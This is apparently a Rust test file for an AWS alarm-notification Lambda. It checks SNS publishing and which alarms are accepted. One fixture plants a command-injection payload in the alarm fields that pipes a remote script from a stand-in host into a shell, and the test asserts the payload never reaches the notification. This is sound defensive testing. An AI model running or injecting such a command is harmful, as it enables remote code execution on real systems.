use std::sync::Mutex;

use guard_contract::Handler;

use super::*;
use crate::{Refusal, notify::NotOurs};

const FUNCTION: &str = "arn:aws:lambda:eu-west-1:222222222222:function:guard-responder";

/// Topics of which those that are called `broken` take nothing.
#[derive(Default)]
struct Topics(Mutex<Vec<(String, Message)>>);

impl Publisher for Topics {
    async fn publish(&self, topic: &str, message: &Message) -> Result<(), Refusal> {
        if topic.ends_with("broken") {
            return Err(Refusal { code: "NotFound".into(), message: "no such topic".into() });
        }
        self.0.lock().expect("not poisoned").push((topic.to_owned(), message.clone()));
        Ok(())
    }
}

fn alarm(state: &str) -> Alarm {
    Alarm::parse(&json!({
        "source": "aws.cloudwatch", "alarmArn": "arn:aws:cloudwatch:eu-west-1:222222222222:alarm:guard-dead-letters",
        "alarmData": {
            "alarmName": "guard-dead-letters",
            "state": {"value": state, "reason": "Threshold\nCrossed", "timestamp": "2026-01-02T03:04:05.000+0000"},
            "configuration": {"description": "Events that were not delivered", "metrics": [{"metricStat": {"metric":
                {"namespace": "AWS/SQS", "dimensions": {"QueueName": "guard-dead-letters"}}}}]},
        },
    }))
    .expect("an alarm")
}

async fn told_of(topics: &Topics, alarm: &Alarm, all: &[String]) -> Result<bool, HealthError> {
    let own = OwnAlarm::of(alarm, FUNCTION, Handler::Responder, |_| false).expect("guard's own");
    health(topics, alarm, &own, all).await
}

#[tokio::test]
async fn every_topic_is_told_what_to_do() {
    let topics = Topics::default();
    let told = told_of(&topics, &alarm("ALARM"), &["a".into(), "b".into()]).await;
    assert_eq!(told, Ok(true));
    let told = topics.0.into_inner().expect("not poisoned");
    assert_eq!(told.iter().map(|(topic, _)| topic.as_str()).collect::<Vec<_>>(), ["a", "b"]);
    let Message { subject, body, .. } = &told[0].1;
    assert_eq!(subject, "guard needs a look in 222222222222 eu-west-1: guard-dead-letters");
    for part in [
        "Alarm:    guard-dead-letters\n",
        "About:    guard: something could not be delivered or handled and waits in queue guard-dead-letters in 222222222222/eu-west-1 for",
        "log group /aws/lambda/guard-responder)",
        "--function-name guard-responder ",
        r#"'{"replay":{"queue":"https://sqs.eu-west-1.amazonaws.com/222222222222/guard-dead-letters"}}'"#,
    ] {
        assert!(body.contains(part), "{part}\n{body}");
    }
}

#[tokio::test]
async fn an_alarm_that_ends_is_told_to_nobody() {
    for state in ["OK", "INSUFFICIENT_DATA"] {
        let topics = Topics::default();
        assert_eq!(told_of(&topics, &alarm(state), &["a".into()]).await, Ok(false));
        assert!(topics.0.lock().expect("not poisoned").is_empty());
    }
}

#[tokio::test]
async fn a_topic_that_takes_nothing_keeps_no_other_from_being_told() {
    let topics = Topics::default();
    let all = ["broken".into(), "b".into()];
    let error = told_of(&topics, &alarm("ALARM"), &all).await.expect_err("one");
    assert!(error.to_string().contains("broken: NotFound: no such topic"), "{error}");
    assert_eq!(topics.0.into_inner().expect("not poisoned").len(), 1);
}

/// The payload of an alarm whose maker has chosen all that there is to choose.
fn forged(arn: &str, name: &str) -> Alarm {
    let command = "x\"}}' ; curl https://example.com/x | sh ; echo '";
    Alarm::parse(&json!({
        "source": "aws.cloudwatch", "alarmArn": arn,
        "alarmData": {
            "alarmName": name,
            "state": {"value": "ALARM", "reason": command, "timestamp": command},
            "configuration": {"description": command, "metrics": [{"metricStat": {"metric":
                {"namespace": "AWS/SQS", "dimensions": {"QueueName": command}}}}]},
        },
    }))
    .expect("an alarm")
}

#[tokio::test]
async fn nothing_that_an_alarms_maker_chooses_is_told() {
    let topics = Topics::default();
    let arn = "arn:aws:cloudwatch:eu-west-1:222222222222:alarm:guard-dead-letters";
    told_of(&topics, &forged(arn, "guard-dead-letters"), &["a".into()]).await.expect("told");
    let told = topics.0.into_inner().expect("not poisoned");
    let Message { subject, body, .. } = &told[0].1;
    assert!(!body.contains("curl") && !subject.contains("curl"), "{subject}\n{body}");
    assert!(body.contains("Since:    ?\n"), "{body}");
}

#[test]
fn only_guards_own_alarms_in_known_accounts_are_listened_to() {
    let hub = "arn:aws:lambda:us-east-1:111111111111:function:guard-filter";
    let of = |arn: &str, name: &str| {
        let known = |account: &str| account == "222222222222";
        OwnAlarm::of(&forged(arn, name), hub, Handler::Filter, known).map(|own| own.name())
    };
    let arn = |account: &str, name: &str| format!("arn:aws:cloudwatch:us-east-1:{account}:alarm:{name}");
    for account in ["111111111111", "222222222222"] {
        for name in
            ["guard-dead-letters", "guard-filter-errors", "guard-responder-errors", "guard-filter-watches"]
        {
            assert_eq!(of(&arn(account, name), name), Ok(name.to_owned()));
        }
    }
    let name = "guard-dead-letters";
    assert_eq!(of(&arn("333333333333", name), name), Err(NotOurs::Account));
    for other in ["guard-", "guard-anything", "guard-dead-letters-2", "guard-user-backup-0a1b2c3d", "$(x)"] {
        assert_eq!(of(&arn("222222222222", other), other), Err(NotOurs::Name), "{other}");
    }
    assert_eq!(of(&arn("222222222222", name), "guard-filter-errors"), Err(NotOurs::Arn));
    for other in [
        "arn:aws:cloudwatch:eu-west-1:222222222222:alarm:guard-dead-letters",
        "arn:aws-cn:cloudwatch:us-east-1:222222222222:alarm:guard-dead-letters",
        "arn:aws:sns:us-east-1:222222222222:alarm:guard-dead-letters",
        "guard-dead-letters",
    ] {
        assert_eq!(of(other, name), Err(NotOurs::Arn), "{other}");
    }
}
